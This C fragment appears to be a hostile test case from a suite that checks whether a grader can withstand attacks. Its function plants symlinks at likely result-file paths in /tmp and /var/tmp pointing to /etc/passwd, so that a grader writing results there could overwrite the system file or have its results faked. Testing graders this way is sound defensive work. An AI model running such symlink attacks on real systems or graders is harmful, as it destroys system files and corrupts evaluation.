/*
 * results_symlinks - plants symbolic links (results.json and the names a
 * grader might write) in /tmp and /var/tmp pointing at files the grader could
 * be tricked into overwriting, then carries on.
 * Class: faked results
 * Unprivileged: no (as the grader's own user, its files in /tmp cannot be
 * told from the grader's)
 */
static void hostile(void)
{
    static const char *const links[] = {
        "/tmp/results.json", "/tmp/results.xml", "/var/tmp/results.json",
        "/tmp/.oslab-tmp-000000",
    };
    for (size_t i = 0; i < sizeof links / sizeof links[0]; i++)
        if (symlink("/etc/passwd", links[i]) == -1)
            continue;
}
